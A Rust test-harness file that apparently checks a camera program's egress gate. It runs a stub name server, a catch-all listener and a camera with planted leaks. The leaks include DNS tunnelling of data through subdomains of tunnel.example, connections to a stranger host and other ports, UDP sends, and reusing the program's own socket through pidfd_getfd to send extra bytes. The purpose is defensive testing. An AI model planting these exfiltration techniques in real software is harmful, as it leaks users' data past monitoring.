//! What is put on the wire, or not, by programs that the test is too: a name server, somebody who takes whatever is said to them, and
//! a camera with a leak planted in it.
//!
//! The leak is where a bad dependency would be: in the camera's own process, run by whatever logs, after the camera has locked itself
//! in. It sends, or tries to, what a doorbell once sent: 20 ms of sound.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::path::Path;
use std::sync::atomic::{AtomicU32, Ordering};

use anyhow::Context;
use clap::Parser;
use procfs::process::{FDTarget, Process};
use simple_dns::rdata::{A, RData};
use simple_dns::{CLASS, Packet, QTYPE, ResourceRecord, TYPE};

use crate::networks::{AGGREGATOR, STRANGER};

/// Answers every question for an address with the one in this file, until it is killed.
pub(crate) fn names(file: &Path) -> anyhow::Result<()> {
    let socket = UdpSocket::bind((AGGREGATOR, 53))?;
    println!("ready");
    let mut bytes = [0; 1500];
    loop {
        let (length, from) = socket.recv_from(&mut bytes)?;
        let Some(Ok(asked)) = bytes.get(..length).map(Packet::parse) else { continue };
        let address: Ipv4Addr = std::fs::read_to_string(file)?.trim().parse()?;
        let mut reply = asked.clone().into_reply();
        let question = asked.questions.first().filter(|question| question.qtype == QTYPE::TYPE(TYPE::A));
        if let Some(question) = question {
            let data = RData::A(A { address: address.to_bits() });
            reply.answers.push(ResourceRecord::new(question.qname.clone(), CLASS::IN, 1, data));
        }
        socket.send_to(&reply.build_bytes_vec()?, from)?;
    }
}

/// Takes whatever is said at these ports of an address, and appends it to a file.
pub(crate) fn listener(address: &str, ports: &[u16], file: &Path) -> anyhow::Result<()> {
    let listeners: Vec<TcpListener> =
        ports.iter().map(|port| TcpListener::bind((address, *port))).collect::<Result<_, _>>()?;
    println!("ready");
    std::thread::scope(|scope| {
        for listener in listeners {
            scope.spawn(move || {
                for mut stream in listener.incoming().flatten() {
                    let file = file.to_owned();
                    std::thread::spawn(move || {
                        let mut bytes = [0; 4096];
                        while let Ok(length @ 1..) = stream.read(&mut bytes) {
                            let out = std::fs::File::options().create(true).append(true).open(&file);
                            let _ = out.and_then(|mut out| out.write_all(bytes.get(..length).unwrap_or_default()));
                        }
                    });
                }
            });
        }
    });
    Ok(())
}

/// Kinds of leak.
pub(crate) const KINDS: [&str; 6] = ["other-host", "other-port", "udp", "dns-tunnel", "extra-bytes", "file"];

/// The camera's program with a leak of this kind planted in it, which goes off at the third message that is let out.
pub(crate) fn camera(
    kind: &str,
    port: u16,
    out: &Path,
    arguments: &[String],
) -> anyhow::Result<std::process::ExitCode> {
    #[derive(Parser)]
    struct Args {
        #[command(flatten)]
        cli: volet_edge::cli::Cli,
    }
    let leak = Leak { kind: kind.to_owned(), port, out: out.to_owned(), count: AtomicU32::new(0) };
    tracing::subscriber::set_global_default(leak)?;
    let name = "volet-edge".to_owned();
    let args = Args::try_parse_from(std::iter::once(&name).chain(arguments))?;
    volet_edge::cli::run(&args.cli)
}

/// Hears what the program logs, and leaks.
struct Leak {
    kind: String,
    port: u16,
    out: std::path::PathBuf,
    count: AtomicU32,
}

impl tracing::Subscriber for Leak {
    fn enabled(&self, metadata: &tracing::Metadata<'_>) -> bool {
        metadata.target() == "volet_edge::egress::gate" && *metadata.level() == tracing::Level::DEBUG
    }

    fn new_span(&self, _: &tracing::span::Attributes<'_>) -> tracing::span::Id {
        tracing::span::Id::from_u64(1)
    }

    fn record(&self, _: &tracing::span::Id, _: &tracing::span::Record<'_>) {}

    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}

    fn event(&self, _: &tracing::Event<'_>) {
        if self.count.fetch_add(1, Ordering::Relaxed) != 3 {
            return;
        }
        match self.go_off() {
            Ok(()) => eprintln!("leaked"),
            Err(error) => eprintln!("held back: {error:#}"),
        }
    }

    fn enter(&self, _: &tracing::span::Id) {}

    fn exit(&self, _: &tracing::span::Id) {}
}

/// 20 ms at 16 kHz, 8 bits.
const SOUND: [u8; 320] = [0x5a; 320];

impl Leak {
    fn go_off(&self) -> anyhow::Result<()> {
        match self.kind.as_str() {
            // The right port, so that a rule about ports alone lets it pass.
            "other-host" => TcpStream::connect((STRANGER, self.port))?.write_all(&SOUND)?,
            "other-port" => TcpStream::connect((AGGREGATOR, 9999))?.write_all(&SOUND)?,
            "udp" => drop(UdpSocket::bind(("0.0.0.0", 0))?.send_to(&SOUND, (AGGREGATOR, 4321))?),
            "dns-tunnel" => self.tunnel()?,
            "extra-bytes" => self.own_connection()?.write_all(&SOUND)?,
            "file" => std::fs::write(self.out.join("sound.raw"), SOUND)?,
            other => anyhow::bail!("no such leak: {other}"),
        }
        Ok(())
    }

    /// Questions for names that nobody asks for, but which whoever serves them can read.
    fn tunnel(&self) -> anyhow::Result<()> {
        let socket = UdpSocket::bind(("0.0.0.0", 0))?;
        socket.connect((AGGREGATOR, 53))?;
        for part in SOUND.chunks(30) {
            let hex: String = part.iter().map(|byte| format!("{byte:02x}")).collect();
            let name = format!("{hex}.tunnel.example");
            let mut packet = Packet::new_query(7);
            let name = simple_dns::Name::new(&name)?;
            packet.questions.push(simple_dns::Question::new(
                name,
                QTYPE::TYPE(TYPE::A),
                simple_dns::QCLASS::CLASS(CLASS::IN),
                false,
            ));
            socket.send(&packet.build_bytes_vec()?)?;
        }
        Ok(())
    }

    /// The very connection to the aggregator, behind the gate's back.
    fn own_connection(&self) -> anyhow::Result<TcpStream> {
        let (own, aggregator) = (Process::myself()?, SocketAddr::new(AGGREGATOR.parse()?, self.port));
        let inode = own.tcp()?.into_iter().find(|tcp| tcp.remote_address == aggregator && tcp.inode != 0);
        let inode = inode.context("there is no connection")?.inode;
        let of_it = |file: &procfs::process::FDInfo| matches!(file.target, FDTarget::Socket(socket) if socket == inode);
        let file = own.fd()?.flatten().find(of_it).context("the connection is not this program's")?;
        let this = rustix::process::pidfd_open(rustix::process::getpid(), rustix::process::PidfdFlags::empty())?;
        let copy: OwnedFd = rustix::process::pidfd_getfd(&this, file.fd, rustix::process::PidfdGetfdFlags::empty())?;
        Ok(TcpStream::from(copy))
    }
}
